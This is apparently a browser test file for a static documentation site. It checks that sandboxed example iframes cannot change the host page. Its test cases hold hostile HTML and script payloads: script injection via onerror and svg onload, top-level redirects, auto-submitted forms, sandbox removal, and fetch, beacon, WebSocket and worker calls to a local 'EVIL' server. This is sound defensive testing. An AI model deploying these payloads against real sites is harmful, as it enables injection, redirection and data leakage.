import { createServer } from 'node:http'
import { beforeAll, describe, expect, test } from 'vitest'
import { browser, describeInChromium } from '../helpers/chromium.ts'
import { example, exampleCatalog, page } from '../helpers/example-site.ts'
import { buildSite } from '../helpers/site.ts'
import { listen, openWay, type Way, type WayName } from '../helpers/ways.ts'
import { atLeast } from '../helpers/tiers.ts'

const sampled = { tags: 'sampled' }

/** What an example may try; `EVIL` is another site. A script says when it has tried everything. */
const cases: readonly (readonly [name: string, html: string, js: string])[] = [
  ['a refresh', '<meta http-equiv="refresh" content="0;url=EVIL/refresh">', ''],
  ['its own address', '<p>x</p>', "location = 'EVIL/location'"],
  ['the address of the page', '<p>x</p>', "top.location = 'EVIL/top'"],
  [
    'links that press themselves',
    '<a id="a" href="EVIL/a">a</a><a id="b" href="EVIL/b" target="_top">b</a><a id="c" href="EVIL/c" target="_blank">c</a><a id="d" href="EVIL/d" download>d</a>',
    "for (const id of ['a', 'b', 'c', 'd']) document.getElementById(id).click()",
  ],
  ['a window', '<p>x</p>', "open('EVIL/open'); open('about:blank')"],
  ['dialogs', '<p>x</p>', "alert('x'); confirm('x'); prompt('x'); print()"],
  [
    'what a page must be allowed',
    '<p>x</p>',
    'document.documentElement.requestFullscreen().catch(() => {}); navigator.geolocation.getCurrentPosition(() => {}); navigator.clipboard.writeText("x").catch(() => {})',
  ],
  ['a base', '<base href="EVIL/base/"><img alt="" src="x.png">', 'new Image().src = "y.png"'],
  [
    'markup that ends all',
    '</body></html><script>parent.postMessage("ran", "*")</script><img alt="" src="x" onerror="parent.postMessage(\'ran\', \'*\')"><svg onload="parent.postMessage(\'ran\', \'*\')"></svg>',
    '',
  ],
  [
    'a document in itself',
    "<iframe srcdoc=\"<script>top.postMessage('ran', '*')</script>\"></iframe>",
    '',
  ],
  [
    'the page in itself',
    '<iframe src="../index.html"></iframe><object data="../index.html"></object>',
    '',
  ],
  [
    'forms',
    '<form id="f" action="EVIL/form" method="post" target="_top"><input name="x" value="1"></form>',
    'f.submit(); f.requestSubmit()',
  ],
  [
    'the network',
    '<img alt="" src="EVIL/img"><link rel="stylesheet" href="EVIL/css"><link rel="prefetch" href="EVIL/pre">',
    "fetch('EVIL/fetch', { mode: 'no-cors' }).catch(() => {}); navigator.sendBeacon('EVIL/beacon', 'x'); try { new WebSocket('EVIL/ws'.replace('http', 'ws')) } catch {} try { new EventSource('EVIL/es') } catch {} import('EVIL/module').catch(() => {}); try { new Worker('EVIL/worker') } catch {}",
  ],
  [
    'false messages',
    '<p>x</p>',
    "for (const height of [1e9, NaN, '9', null, -1, {}, Infinity]) parent.postMessage(height, '*')",
  ],
  ['the focus, by an attribute', '<input autofocus>', ''],
  [
    'the page, its storage and its cookies',
    '<p>x</p>',
    "for (const act of [() => parent.document.title = 'x', () => parent.location.href, () => localStorage.setItem('mine', 'x'), () => document.cookie = 'mine=x', () => frameElement.removeAttribute('sandbox'), () => eval('1'), () => top.close(), () => history.pushState(null, '', '/x')]) try { act() } catch {}",
  ],
]

describeInChromium('hostile examples', () => {
  const hits: string[] = []
  const ways = new Map<WayName, Way>()

  beforeAll(async () => {
    const evil = createServer((request, response) => {
      hits.push(request.url ?? '')
      response.end('x')
    })
    const origin = await listen(evil)
    const sources = cases.map(([, html, js], i) => [
      `c${i}.md`,
      page(
        `C${i}`,
        example(html.replaceAll('EVIL', origin), {
          // What comes last says that the rest was tried.
          js: `${js.replaceAll('EVIL', origin)}\nparent.postMessage(77, '*')`,
        }),
      ),
    ])
    const site = await buildSite({ ...exampleCatalog, ...Object.fromEntries(sources) })
    expect(site.ok).toBe(true)
    for (const name of ['http', 'http with headers', 'from disk'] as const)
      ways.set(name, await openWay(name, site.out))
  })

  // What headers add to the policy of a page only takes more away.
  const everyWay = ['http', 'http with headers', 'from disk'] as const
  describe.each(atLeast<WayName>(['http', 'from disk'], everyWay))('%s', (way) => {
    // Side by side, since each takes its time to try; what is asked of the other site names who asked.
    // From disk `npm test` tries every second one.
    const numbered = cases.map(([name], i) => [name, i] as const)
    const second = numbered.filter(([, i]) => i % 2 === 0)
    test.concurrent.for(way === 'from disk' ? atLeast(second, numbered) : numbered)(
      'P7: an example that tries %s changes nothing of the page',
      sampled,
      async ([, i], { expect, onTestFinished }) => {
        // Of its own: examples that are opened from disk share what the browser stores for files.
        const context = await browser.newContext()
        onTestFinished(() => context.close())
        await context.addInitScript(`
          if (top === self) {
            window.msgs = []
            addEventListener('message', ({ data }) => msgs.push(data))
            addEventListener('DOMContentLoaded', () => document.querySelector('button.theme').focus())
          }
        `)
        const opened = await context.newPage()
        const told: string[] = []
        opened.on('popup', (other) => told.push(`a window ${other.url()}`))
        opened.on('dialog', (dialog) => {
          told.push(`a dialog ${dialog.message()}`)
          void dialog.dismiss()
        })
        opened.on('download', () => told.push('a download'))
        const address = `${ways.get(way)?.root}components/c${i}.html`
        await opened.goto(address)
        await opened.evaluate("localStorage.setItem('mine', 'ours')")
        await opened.locator('#example-1 iframe').scrollIntoViewIfNeeded()
        const title = `C${i} - Examples`
        // Those that leave their document never come to the end.
        const isLast = `msgs.includes(77) || document.querySelector('iframe[data-loaded]') !== null`
        await expect.poll(() => opened.evaluate(isLast)).toBe(true)
        await expect.poll(() => opened.evaluate('performance.now() > 1500')).toBe(true)
        const seen = await opened.evaluate(`({
          address: location.href,
          title: document.title,
          storage: JSON.stringify(Object.entries(localStorage).filter(([key]) => key !== 'theme')),
          cookie: document.cookie,
          focus: document.activeElement.className,
          msgs: msgs.filter((data) => typeof data === 'string' || (typeof data === 'object' && data !== null && Object.keys(data).length > 0)),
          height: Number(document.querySelector('#example-1 iframe').height) <= 2000,
        })`)
        expect(seen).toEqual({
          address,
          title,
          storage: '[["mine","ours"]]',
          cookie: '',
          focus: 'theme',
          // Only the case of false messages sends a text.
          msgs: cases[i]?.[0] === 'false messages' ? ['9'] : [],
          height: true,
        })
        expect(told).toEqual([])
        expect(hits).toEqual([])
      },
    )
  })
})
